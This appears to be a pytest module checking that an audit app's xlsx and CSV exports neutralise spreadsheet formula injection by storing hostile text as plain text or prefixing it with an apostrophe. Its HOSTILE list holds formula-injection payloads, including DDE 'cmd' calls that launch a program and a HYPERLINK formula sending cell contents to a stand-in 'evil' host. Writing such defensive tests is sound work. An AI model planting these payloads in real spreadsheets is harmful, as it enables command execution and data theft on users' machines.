"""Formula injection (issue 16 item 3): hostile text is exported as text, read back as text.

Every xlsx string cell must be a text cell (never openpyxl data_type "f"), and every CSV value that
would start a formula (= + - @ tab CR) carries a leading apostrophe. The app's own threshold text
(``= 0 mm``) is not turned into a formula either.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from bureau_fixtures import POINTS

from audit.actors import SYSTEM
from audit.io.cells import FORMULA_PREFIXES, csv_text
from audit.io.exports import export_database, plan_xlsx_bytes
from audit.io.xlsform import write_xlsform
from audit.storage import Database
from audit.storage.orm import Audit, Report

HOSTILE = [
    "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
THRESHOLD = "= 0 mm"


@pytest.fixture
def hostile_db(sqlite_db: Database) -> Database:
    lon, lat = POINTS["441702"]
    with sqlite_db.unit_of_work(SYSTEM, write=True) as repo:
        s = repo.session
        for i, text in enumerate(HOSTILE):
            rec = repo.create_facility("ramp", lon + i * 1e-4, lat, name=text, address=text,
                                       district_code="441702")
            s.add(Audit(
                facility_id=rec.id, inspector_name=text, status="submitted", sequence=1,
                ruleset_id="test", ruleset_version="1", measurements={}, verdict="non_compliant",
                score=10.0, n_fail=1, evaluation={"findings": [{
                    "rule_id": "x.1", "status": "fail", "severity": "major", "title_zh": text,
                    "threshold": {"text": THRESHOLD}}]}))
            s.add(Report(code=f"YJ-{i}", category="other", lon=lon, lat=lat,
                         district_code="441702", status="new", description=text,
                         location_text=text))
    return sqlite_db


def _xml(text: str) -> str:
    """XML parsers normalise a CR in cell text to LF; everything else reads back unchanged."""
    return text.replace("\r", "\n")


def _xlsx_texts(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    return [c for c in cells if isinstance(c.value, str)]


def test_csv_text_neutralises_every_leading_formula_character() -> None:
    for prefix in FORMULA_PREFIXES:
        assert csv_text(prefix + "1+1") == "'" + prefix + "1+1"
    assert csv_text("ramp 1:12") == "ramp 1:12"
    assert csv_text(-3.5) == -3.5  # numbers stay numbers


def test_xlsx_export_writes_hostile_text_as_text(hostile_db: Database, tmp_path: Path) -> None:
    out = tmp_path / "e.xlsx"
    with hostile_db.unit_of_work(SYSTEM) as repo:
        export_database(repo, "xlsx", out)
    values = [c.value for c in _xlsx_texts(out)]
    for text in HOSTILE:
        assert _xml(text) in values  # read back unchanged, as text
    book = openpyxl.load_workbook(out)
    findings = pd.DataFrame(book["findings"].values)
    header = list(findings.iloc[0])
    thresholds = list(findings.iloc[1:, header.index("threshold")])
    assert thresholds == [THRESHOLD] * len(HOSTILE)
    assert all(c.quotePrefix for c in _xlsx_texts(out) if c.value == THRESHOLD)


def test_csv_export_neutralises_hostile_text(hostile_db: Database, tmp_path: Path) -> None:
    out = tmp_path / "e"
    with hostile_db.unit_of_work(SYSTEM) as repo:
        export_database(repo, "csv", out)
    seen: set[str] = set()
    for path in out.glob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")  # no newline translation
        for row in csv.reader(io.StringIO(text, newline="")):
            for value in row:
                assert not value.startswith(FORMULA_PREFIXES), (path.name, value)
                seen.add(value)
    for text in HOSTILE:
        assert "'" + text in seen
    assert "'" + THRESHOLD in seen


def test_plan_workbook_and_xlsform_have_no_formula_cells(tmp_path: Path) -> None:
    plan = pd.DataFrame({"name": HOSTILE, "cost": range(len(HOSTILE))})
    summary = pd.DataFrame({"district": ["=1+1"], "n": [1]})
    data = plan_xlsx_bytes(plan, summary, {"title": "@title", "note": "-x"})
    path = tmp_path / "plan.xlsx"
    path.write_bytes(data)
    values = [c.value for c in _xlsx_texts(path)]
    assert {_xml(t) for t in HOSTILE} | {"=1+1", "@title", "-x"} <= set(values)
    form = write_xlsform(tmp_path / "form.xlsx")
    assert _xlsx_texts(form)  # and no formula cell (asserted inside)
